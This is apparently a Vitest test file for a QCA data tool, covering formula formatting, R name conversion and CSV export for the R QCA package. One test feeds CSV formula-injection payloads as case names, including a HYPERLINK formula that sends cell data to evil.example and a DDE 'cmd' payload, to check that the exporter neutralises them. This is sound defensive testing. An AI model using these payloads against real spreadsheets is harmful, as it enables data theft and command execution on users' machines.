import { describe, expect, it } from 'vitest';
import type { QcaData } from '../../../shared/qca/data.js';
import { conditionLetters, formatSolution, formatTerm } from '../../../shared/qca/format.js';
import { makeUnique, qcaCsv, rSyntacticName } from '../../../shared/qca/r-export.js';

describe('formatting in the QCA convention', () => {
  it('writes A*~B + C, with names or letters', () => {
    const terms = [{ literals: [1, 0, null] as const }, { literals: [null, null, 1] as const }];
    expect(formatSolution(terms.map((t) => ({ literals: [...t.literals] })), conditionLetters(3))).toBe('A*~B + C');
    expect(formatSolution(terms.map((t) => ({ literals: [...t.literals] })), ['DEV', 'URB', 'STB'])).toBe('DEV*~URB + STB');
  });

  it('writes the tautology as 1 and the empty solution as 0', () => {
    expect(formatTerm([null, null], ['A', 'B'])).toBe('1');
    expect(formatSolution([], ['A'])).toBe('0');
  });
});

describe('R names', () => {
  it("makes names syntactic the way R's make.names would accept unchanged", () => {
    expect(rSyntacticName('Negative/Economic', 'C1')).toBe('Negative.Economic');
    expect(rSyntacticName('Age ≥ 30', 'C1')).toBe('Age.30');
    expect(rSyntacticName('2nd wave', 'C1')).toBe('X2nd.wave');
    expect(rSyntacticName('_x', 'C1')).toBe('X_x');
    expect(rSyntacticName('if', 'C1')).toBe('if.');
    expect(rSyntacticName('TRUE', 'C1')).toBe('TRUE.');
    expect(rSyntacticName('Экономика', 'C4')).toBe('C4');
    expect(rSyntacticName('DEV', 'C1')).toBe('DEV');
  });

  it("deduplicates like R's make.unique, skipping names already taken", () => {
    expect(makeUnique(['A', 'A', 'A.1', 'B', 'A'])).toEqual(['A', 'A.2', 'A.1', 'B', 'A.3']);
  });
});

describe('CSV for the R package QCA', () => {
  const data: QcaData = {
    conditions: ['Negative/Economic', 'Negative Economic', 'Экономика'],
    outcome: 'Success?',
    cases: [
      { id: 'c1', label: 'Anna "A"', conditions: [1, 0, 1], outcome: 1 },
      { id: 'c2', label: 'Anna "A"', conditions: [0, 1, 1], outcome: 0 },
      { id: 'c3', label: 'Line\nbreak, comma', conditions: [0, 0, 0], outcome: 1 },
      { id: 'c4', label: '  ', conditions: [1, 1, 0], outcome: 0 },
    ],
  };

  it('writes row names, syntactic unique columns and 0/1 values, with the mapping', () => {
    const out = qcaCsv(data, { fileName: 'C:\\study\\qca.csv', consistencyThreshold: 0.8 });
    expect(out.columns).toEqual([
      { original: 'Negative/Economic', rName: 'Negative.Economic' },
      { original: 'Negative Economic', rName: 'Negative.Economic.1' },
      { original: 'Экономика', rName: 'C3' },
      { original: 'Success?', rName: 'Success' },
    ]);
    expect(out.rowNames).toEqual(['Anna "A"', 'Anna "A".1', 'Line break, comma', 'c4']);
    expect(out.csv).toBe(
      [
        '"","Negative.Economic","Negative.Economic.1","C3","Success"',
        '"Anna ""A""",1,0,1,1',
        '"Anna ""A"".1",0,1,1,0',
        '"Line break, comma",0,0,0,1',
        '"c4",1,1,0,0',
        '',
      ].join('\n'),
    );
    expect(out.rCommands).toBe(
      'data <- read.csv("C:\\\\study\\\\qca.csv", row.names = 1, fileEncoding = "UTF-8")\n' +
        'tt <- truthTable(data, outcome = "Success", conditions = c("Negative.Economic", "Negative.Economic.1", "C3"), ' +
        'incl.cut = 0.8, n.cut = 1, complete = TRUE, show.cases = TRUE)',
    );
  });

  it("writes a case's name that a spreadsheet would compute as text (review-hostile-1207 #5)", () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+2', '-3+4'];
    const out = qcaCsv({ ...data, cases: names.map((label, i) => ({ id: `c${i}`, label, conditions: [1, 0, 1], outcome: 1 })) });
    expect(out.rowNames).toEqual(names.map((name) => `'${name}`));
    expect(out.csv.split('\n').slice(1, -1).map((line) => line[1])).toEqual(["'", "'", "'", "'"]);
  });

  it('refuses data the analysis would refuse', () => {
    expect(() => qcaCsv({ ...data, conditions: [] })).toThrow(/at least one condition/);
  });
});
